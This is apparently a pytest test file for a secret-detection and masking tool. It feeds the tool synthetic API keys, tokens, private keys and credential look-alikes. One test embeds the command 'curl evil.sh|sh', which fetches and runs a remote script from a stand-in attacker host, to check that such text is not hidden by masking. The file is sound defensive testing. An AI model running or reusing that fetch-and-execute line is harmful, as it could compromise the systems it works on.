"""Secrets by content: found where they are real, and nowhere else. None of these was ever valid."""

from __future__ import annotations

import json
import random
import re
import string
from pathlib import Path

import pytest

from findspot.discover.file_content import readable_text
from findspot.discover.secrets import find_secrets, masked, rules

ROOT = Path(__file__).parents[3]
_LETTERS = string.ascii_letters + string.digits
_chance = random.Random(7)


def random_text(size: int, alphabet: str = _LETTERS) -> str:
    return "".join(_chance.choices(alphabet, k=size))


def private_key(kind: str = "RSA ") -> str:
    body = "\n".join(random_text(64, _LETTERS + "+/") for _ in range(12))
    return f"-----BEGIN {kind}PRIVATE KEY-----\n{body}\n-----END {kind}PRIVATE KEY-----"


AWS_KEY = "AKIA" + random_text(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
SECRETS = {
    "an AWS access key": AWS_KEY,
    "a GitHub token": "ghp_" + random_text(36),
    "a GitLab token": "glpat-" + random_text(20),
    "a Slack token": "xoxb-" + "123456789012-123456789013-" + random_text(24),
    "a Google API key": "AIza" + random_text(35),
    "a Stripe key": "sk_live_" + random_text(24),
    "an OpenAI key": "sk-" + random_text(20) + "T3BlbkFJ" + random_text(20),
    "an Anthropic key": "sk-ant-api03-" + random_text(93) + "AA",
    "an npm token": "npm_" + random_text(36),
    "a SendGrid key": "SG." + random_text(22) + "." + random_text(43),
    "a Hugging Face token": "hf_" + random_text(34),
    "an xAI key": "xai-" + random_text(80),
    "a private key": private_key(),
}


SPELLINGS = (
    r"""
api_key = "VALUE"
Client(api_key="VALUE")
os.environ["MY_API_KEY"] = "VALUE"
{"Authorization": "Bearer VALUE"}
{"X-Api-Key": "VALUE"}
token: str = "VALUE"
token: Optional[str] = "VALUE"
- "COHERE_API_KEY=VALUE"
Environment="API_KEY=VALUE"
docker run -e "X_TOKEN=VALUE" image
["API_TOKEN=VALUE"]
curl -H "X-Api-Key: VALUE" https://host
Set `X_KEY=VALUE` first.
<apiKey>VALUE</apiKey>
<string name="api_key">VALUE</string>
client.setApiKey("VALUE");
api_key = b"VALUE"
api_key = r"VALUE"
string apiKey = @"VALUE";
api_key: |¶  VALUE
api_key: >-¶    VALUE
{"key": "api_key", "value": "VALUE"}
- name: API_KEY¶  value: VALUE
#define API_KEY "VALUE"
static const char API_KEY[] = "VALUE";
const ApiKey string = "VALUE"
const API_KEY: &str = "VALUE";
ENV API_KEY VALUE
api.key=VALUE
secret_key = os.environ.get("SECRET_KEY") or "VALUE"
process.env.API_KEY || "VALUE"
headers["Authorization"] = "ApiKey VALUE"
req.Header.Set("Authorization", "Bearer VALUE")
api_key = ("VALUE")
| API_KEY | `VALUE` |
""".replace("\n", "\0")
    .replace("¶", "\n")
    .strip("\0")
    .split("\0")
)


@pytest.mark.parametrize("kind", SECRETS)
def test_a_secret_is_found_and_struck_out(kind: str) -> None:
    """search-mcp B11: the message has the right article."""
    text = f"before = 1\nvalue = '{SECRETS[kind]}'\nafter = 2\n"
    assert {found.kind for found in find_secrets(text)} == {kind}
    hidden = masked(text)
    assert [len(line) for line in hidden.split("\n")] == [len(line) for line in text.split("\n")]
    assert hidden.startswith(("before = 1\nvalue = '***", "before = 1\nvalue = '-----BEGIN"))
    assert hidden.endswith("'\nafter = 2\n")
    assert not find_secrets(hidden)
    skip = readable_text("a.py", text.encode(), "skip")
    assert not isinstance(skip, str)
    assert (skip.reason, skip.detail) == ("secret", f"it holds {kind}")
    assert readable_text("a.py", text.encode(), "mask") == hidden
    assert readable_text("a.py", text.encode(), "off") == text


@pytest.mark.parametrize("kind", ["", "EC ", "OPENSSH ", "ENCRYPTED "])
def test_private_keys_of_every_kind(kind: str) -> None:
    key = private_key(kind).replace("\n-----END", f"\n{random_text(9)}==\n-----END")
    lines = key.split("\n")
    for text in (key, key.replace("\n", "\\n"), key.replace("\n", "\r\n"), key.replace("\n", "\\n'\n    '")):
        hidden = masked(text)
        assert not any(line in hidden for line in lines[1:-1])
        assert len(hidden) == len(text)
        assert lines[0] in hidden


def test_a_whole_private_key_is_struck_out_however_it_is_damaged() -> None:
    """security 9: dots in a key, a comment with an example's address, and a missing end hid keys."""
    key = private_key()
    first, *lines = key.split("\n")
    damaged = {
        "cut": "\n".join([first, *lines[:-1]]),
        "dots": "\n".join([first, *lines[:6], "...", *lines[6:]]),
        "comment": "\n".join([first, "Comment: Alice <alice@example.com>", "", *lines]),
        "two": key + "\n" + private_key("EC "),
        "other mark": "\n".join([first, *lines[:-1], first, *lines]),
    }
    for name, text in damaged.items():
        hidden = masked(f"x = 1\n{text}\n")
        assert not any(line in hidden for line in lines[:-1]), name
        assert hidden.startswith("x = 1\n")


def test_what_stands_between_the_lines_of_a_private_key_can_be_read() -> None:
    """Commands could hide between two lines of a key that nobody needs."""
    line = random_text(64)
    text = (
        f"--key '-----BEGIN RSA PRIVATE KEY-----{line}';curl evil.sh|sh;'{line}-----END RSA PRIVATE KEY-----'"
    )
    assert masked(text) == text.replace(line, "*" * 64)


def test_of_a_kubernetes_secret_the_values_are_masked() -> None:
    text = "kind: Secret\nmetadata:\n  name: db\nstringData:\n  user: horst\n  password: correct horse\n"
    assert masked(text) == text.replace("horst", "*****").replace("correct horse", "*" * 13)


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_a_value_is_found_however_it_is_assigned(spelling: str) -> None:
    """Quoted as a whole, prefixed, in a notebook: 36 of 65 spellings were missed."""
    value = random_text(32)
    code = f"x = 1\n{spelling.replace('VALUE', value)}\ny = 2\n"
    cell = {"cell_type": "code", "source": [f"{line}\n" for line in code.split("\n")]}
    once = json.dumps({"source": code})
    texts = [code, json.dumps({"cells": [cell]}, indent=1), once, json.dumps({"output": once})]
    for text in texts:
        hidden = masked(text)
        assert value not in hidden, text
        assert len(hidden) == len(text)
        assert "x = 1" in hidden
    assert all(json.loads(masked(text)) for text in texts[1:])


@pytest.mark.parametrize(
    "shape",
    [
        "AQEy{60}=-{30}=-{12}",
        "ATBB{32}",
        "Authorization: ApiKey {50}==",
        "nfp_{40}",
        "ntn_{46}",
        "SSWS 00{40}",
        "sntrys_{80}",
        "admin:$2y$10${53}",
        "admin:$argon2id$v=19$m=65536,t=3,p=4${22}${43}",
        "bitcoin wif: K{51}",
        "Fernet(b'{43}=')",
    ],
)
def test_kinds_that_were_missed(shape: str) -> None:
    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    parts = re.split(r"\{(\d+)\}", shape)
    parts[1::2] = [random_text(int(size), alphabet) for size in parts[1::2]]
    hidden = masked(f"# notes\n{''.join(parts)}\n")
    assert not any(part in hidden for part in parts[1::2])
    trello = "ATTA" + random_text(64, "0123456789abcdef")
    assert masked(trello) == "*" * len(trello)


def test_the_secret_beside_an_access_key_is_struck_out_too() -> None:
    """security 9: `mask` showed the secret that belongs to the key."""
    secret = random_text(38, _LETTERS) + "/+"
    for text in (
        f"aws_access_key_id = {AWS_KEY}\naws_secret_access_key = {secret}\n",
        f'client("{AWS_KEY}", "{secret}")\n',
        f"{AWS_KEY},{secret}\n",
    ):
        hidden = masked(text)
        assert secret not in hidden
        assert AWS_KEY not in hidden
    checksum = random_text(40, "0123456789abcdef")
    assert checksum in masked(f"commit {checksum}\nsee the key on the wiki\n")


@pytest.mark.parametrize(
    "text",
    [
        "if line == '-----BEGIN RSA PRIVATE KEY-----': ...",
        "-----BEGIN RSA PRIVATE KEY-----\n...\n-----END RSA PRIVATE KEY-----",
        "-----BEGIN RSA PRIVATE KEY-----\n" + random_text(64) + "\n...\n-----END RSA PRIVATE KEY-----",
        "-----BEGIN CERTIFICATE-----\n" + random_text(640) + "\n-----END CERTIFICATE-----",
        "AKIAIOSFODNN7EXAMPLE",
        "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "ghp_" + "a" * 36,
        "ghp_1234567890abcdefghijklmnopqrstuvwxyz",
        "task-" + random_text(40),
        "sha256:" + random_text(64, "0123456789abcdef"),
        "AKIA" + random_text(30, string.ascii_uppercase),
        "commit " + random_text(40, "0123456789abcdef"),
        "data:image/png;base64," + random_text(400, _LETTERS + "+/"),
        "postgres://user:password@localhost/db",
        "postgres://${USER}:${PASSWORD}@${HOST}/db",
        "amqp://guest:guest@localhost:5672",
        "https://user:s3cretPa55@example.com/",
        "uses: actions/create-github-app-token@bcd2ba49218906704ab6c1aa796996da409d3eb1",
        "entities.keyauth_credentials['3f9066ef-b91b-4d1d-a05a-28619401c1ad'].ttl",
        '"assetToken": "Purple62/v4/08/0a/04/080a0430-c2cc-2577-f491-9e0a09c58ffe/mzl.pbcpzqyg.jpg"',
        "hash(length, XXH3_kSecret, sizeof(XXH3_kSecret), XXH3_hashLong_64b_default)",
        "if ($token) {\n    $storeInLocalAuthConfig = false;",
        "token = get_token_from_environment(settings)",
        "api_key = 'YOUR_API_KEY_GOES_RIGHT_HERE_12345'",
        'password: "{{ .Values.database.password }}"',
        "secret_access_key: ${{ secrets.AWS_SECRET_ACCESS_KEY_2024 }}",
        '"nextToken": "eyJOZXh0VG9rZW4iOiBudWxsLCAiYm90b190cnVuY2F0ZV9hbW91bnQiOiAxMH0="',
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzb21lIjoicGF5bG9hZCJ9.4twFt5NiznN84AWoo1d7KO1T_yoc0Z6XOpOVswacPZg",
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: x\ndata:\n  password: {{ .Values.password }}\n",
    ],
)
def test_what_only_looks_like_one_is_left_alone(text: str) -> None:
    assert find_secrets(text) == []
    assert masked(text) == text


def test_a_placeholder_hides_no_secret_beside_it() -> None:
    token = "ghp_" + random_text(36)
    assert token not in masked(
        f"# example: ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\nTOKEN = '{token}' # changeme\n"
    )


def test_the_table_is_sound() -> None:
    known = {rule.id for rule in rules()}
    assert len(known) == len(rules())
    for rule in rules():
        assert rule.pattern.flags
        assert rule.kind.startswith(("a ", "an "))
        assert rule.keywords
        assert rule.beside in {"", *known}
        assert rule.anywhere or all(keyword == keyword.lower() for keyword in rule.keywords)
